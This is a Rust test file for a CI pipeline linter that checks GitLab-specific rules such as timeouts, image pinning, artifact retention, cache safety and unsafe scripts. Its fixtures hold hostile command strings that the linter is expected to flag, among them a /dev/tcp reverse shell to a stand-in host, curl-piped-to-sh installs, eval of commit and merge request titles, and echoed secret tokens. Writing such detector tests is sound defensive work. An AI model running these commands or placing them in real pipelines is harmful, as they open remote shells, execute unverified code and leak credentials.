//! What is written in GitLab's own words is judged as what is written in ours: a raw `timeout` is still a timeout.

use std::path::Path;

use pipeward::policy::Date;
use pipeward::rule::EXAMPLE_NOW;
use pipeward::source::{Evaluator, Request, Role};
use pipeward::workspace;

/// A rule, what the project says of GitLab, and a pipeline that makes the rule fire in GitLab's words; `STEPS` stands for what has nothing
/// to be said of, `HERE` marks the line that the finding is at.
const JUDGED: &[(&str, &str, &str)] = &[
    (
        "job-timeout-over-limit",
        "",
        r#"jobs.test = { gitlab = {
        timeout = "9 hours", # HERE
    }, STEPS }"#,
    ),
    ("job-timeout-missing", "", r#"jobs.test = { gitlab.script = ["make"] } # HERE"#),
    ("unpinned-images", "", r#"jobs.test = { TIME, STEPS, gitlab.image = "python:3.13" } # HERE"#),
    ("unpinned-images", "", r#"jobs.test = { TIME, STEPS, gitlab.services = ["redis:8"] } # HERE"#),
    ("unpinned-images", "", r#"jobs.test = { TIME, STEPS, gitlab.image = "$CI_REGISTRY_IMAGE/tools:latest" } # HERE"#),
    ("unpinned-images", r#"default.image = "python:3.13""#, r#"jobs.test = { TIME, STEPS }"#),
    (
        "unpinned-images",
        "",
        r#"gitlab.templates.".base".image.name = "python:3.13", # HERE
        jobs.test = { TIME, STEPS }"#,
    ),
    ("retention-missing", "", r#"jobs.test = { TIME, STEPS, gitlab.artifacts = { paths = ["dist"] } } # HERE"#),
    ("retention-missing", r#"default.artifacts.paths = ["dist"]"#, r#"jobs.test = { TIME, STEPS }"#),
    (
        "retention-missing",
        "",
        r#"jobs.test = { TIME, STEPS, gitlab.artifacts = { paths = ["dist"],
        expire_in = "never" } } # HERE"#,
    ),
    (
        "retention-over-limit",
        "",
        r#"gitlab.templates.".kept".artifacts.expire_in = "1 year", # HERE
        jobs.test = { TIME, STEPS, gitlab = { extends = ".kept", artifacts.paths = ["dist"] } }"#,
    ),
    (
        "secrets-in-artifact",
        "",
        r#"jobs.test = { TIME, STEPS, gitlab.artifacts = { expire_in = "1 week",
        paths = [".ssh/"] } } # HERE"#,
    ),
    (
        "cache-poisoning",
        "",
        r#"on.push.tags = ["v*"], jobs.test = { TIME, STEPS, gitlab.cache = { key = "a", paths = ["a"] } } # HERE"#,
    ),
    (
        "cache-bloat",
        "",
        r#"jobs.test = { TIME, STEPS, gitlab.cache = { paths = ["a"],
        key = "$CI_COMMIT_SHA" } } # HERE"#,
    ),
    (
        "needs-graph",
        "",
        r#"jobs.one = { TIME, STEPS, gitlab.needs = ["two"] }, jobs.two = { TIME, STEPS, gitlab.needs = ["one"] }"#,
    ),
    (
        "id-token-ungated",
        "",
        r#"jobs.test = { TIME, STEPS, gitlab.id_tokens.SIGNING = { # HERE
        aud = "https://acme.example" } }"#,
    ),
    ("runner-not-approved", "", r#"jobs.test = { TIME, STEPS, gitlab.tags = ["gpu"] } # HERE"#),
    ("self-hosted-on-pr", r#"runners.own.tags = ["gpu"]"#, r#"jobs.test = { TIME, STEPS, gitlab.tags = ["gpu"] } # HERE"#),
    (
        "docker-in-docker",
        r#"runners.own.tags = ["gpu"]"#,
        r#"jobs.test = { TIME, STEPS, gitlab = { tags = ["gpu"],
        services = ["docker:28-dind@sha256:DIGEST"] } } # HERE"#,
    ),
    (
        "unverified-script",
        "",
        r#"jobs.test = { TIME, gitlab.script = ["make",
        "curl -fsSL https://acme.example/install | sh"] } # HERE"#,
    ),
    (
        "unverified-script",
        r#"default.before_script = ["curl -fsSL https://acme.example/install | sh"]"#,
        r#"jobs.test = { TIME, gitlab.script = ["make"] }"#,
    ),
    (
        "unverified-script",
        "",
        r#"gitlab.templates.".base".script = ["curl -fsSL https://acme.example/install | sh"], # HERE
        jobs.test = { TIME, gitlab.script = ['Reference [".base", "script"], "make"] }"#,
    ),
    (
        "unverified-script",
        "",
        r#"jobs.test = { TIME, STEPS, gitlab.hooks.pre_get_sources_script = [
        "curl -fsSL https://acme.example/install | sh"] } # HERE"#,
    ),
    (
        "unverified-script",
        "",
        r#"jobs.test = { TIME, gitlab.run = [{ name = "a",
        script = "curl -fsSL https://acme.example/install | sh" }] } # HERE"#,
    ),
    (
        "insecure-url",
        "",
        r#"jobs.test = { TIME, STEPS, gitlab.after_script = [
        "curl http://acme.example/done"] } # HERE"#,
    ),
    (
        "secrets-in-command",
        "",
        r#"jobs.test = { TIME, gitlab.script = ["make",
        "echo $TOKEN"] } # HERE"#,
    ),
    (
        "secrets-in-command",
        "",
        r#"jobs.test = { TIME, gitlab = { variables.OTHER = "x$TOKEN", script = ["make",
        "echo $OTHER"] } } # HERE"#,
    ),
    (
        "secrets-in-command",
        "",
        r#"jobs.test = { TIME, gitlab.script = ["COPY=$TOKEN", # HERE
        "echo $COPY"] }"#,
    ),
    (
        "command-injection",
        "",
        r#"jobs.test = { TIME, gitlab.script = ["make",
        "eval \"$CI_MERGE_REQUEST_TITLE\""] } # HERE"#,
    ),
    (
        "command-injection",
        "",
        r#"jobs.test = { TIME, gitlab = { variables.TITLE = "v $CI_COMMIT_MESSAGE",
        script = ["bash -c \"$TITLE\""] } } # HERE"#,
    ),
    (
        "command-injection",
        "",
        r#"jobs.test = { TIME, steps = [{ name = "Make", run = "make",
        gitlab.script = ["eval \"$CI_COMMIT_TITLE\""] }] } # HERE"#,
    ),
    (
        "suspect-command",
        "",
        r#"jobs.test = { TIME, gitlab.script = ["make",
        "bash -i >& /dev/tcp/acme.example/80 0>&1"] } # HERE"#,
    ),
    (
        "secrets-literal",
        "",
        r#"jobs.test = { TIME, STEPS, gitlab.variables.A = std.string.join "" ["gl", "pat-0123456789abcdefghij"] } # HERE"#,
    ),
    ("matrix-duplicate", "", r#"jobs.test = { TIME, STEPS, gitlab.parallel.matrix = [{ A = ["1", "1"] }] } # HERE"#),
];

#[test]
fn what_is_written_in_gitlabs_words_is_judged() {
    let mut wrong = Vec::new();
    for (rule, settings, pipeline) in JUDGED {
        let on = if pipeline.starts_with("on.") { "" } else { "on.pull_request = {}, " };
        let text = format!("{{ name = \"CI\", {on}{pipeline}\n}}")
            .replace("STEPS", "steps = [{ name = \"X\", run = \"true\" }]")
            .replace("TIME", "timeout = \"5m\"")
            .replace("DIGEST", &"0a".repeat(32));
        let found = judged(settings, &text);
        let marked = text.lines().position(|line| line.ends_with("# HERE"));
        let at: Vec<Option<usize>> = found.iter().filter(|(found, ..)| found == rule).map(|(_, line, _)| *line).collect();
        // What the project says is at a line of its own file.
        if at.is_empty() || marked.is_some() && at != [marked] {
            wrong.push(format!("{rule}: {pipeline}\n  expected at {marked:?}, said: {found:#?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert!(JUDGED.len() >= 25);
}

/// What is said of a pipeline: the rule, the line of its file counted from 0, and the message.
fn judged(settings: &str, pipeline: &str) -> Vec<(String, Option<usize>, String)> {
    let root = Path::new(env!("CARGO_TARGET_TMPDIR"));
    let project = format!(
        r#"{{ name = "x", visibility = 'Public, backends = {{ github = {{}}, gitlab = {{ {settings} }} }},
             runners.own = {{ labels = ["self-hosted"], hosted = false }}, secrets.TOKEN = {{ purpose = "x", owner = "x" }} }}"#
    );
    let policy = r#"{ rules = { runner-not-approved.settings.allow = ["ubuntu-*"], job-timeout-over-limit.settings.max = "6h", docker-in-docker.severity = 'Error } }"#;
    let file = |name: &str, role, text: &str| Request { name: name.to_owned(), text: Some(text.to_owned()), role };
    let requests = [
        file("pipelines/main.ncl", Role::Project, &project),
        file("pipelines/ci.ncl", Role::Pipeline, pipeline),
        file("policies/main.ncl", Role::Policy, policy),
    ];
    let workspace = workspace::assemble(root, &Evaluator::here(root), &requests);
    let now = Date::parse(EXAMPLE_NOW).expect("a day");
    let said = workspace.judge(&[], now);
    let line = |finding: &pipeward::finding::Finding| {
        let origin = finding.origin?;
        let file = workspace.files.text(origin.file);
        (workspace.files.name(origin.file) == "pipelines/ci.ncl").then(|| file[..origin.start as usize].matches('\n').count())
    };
    said.iter().map(|finding| (finding.rule.clone(), line(finding), finding.message.clone())).collect()
}
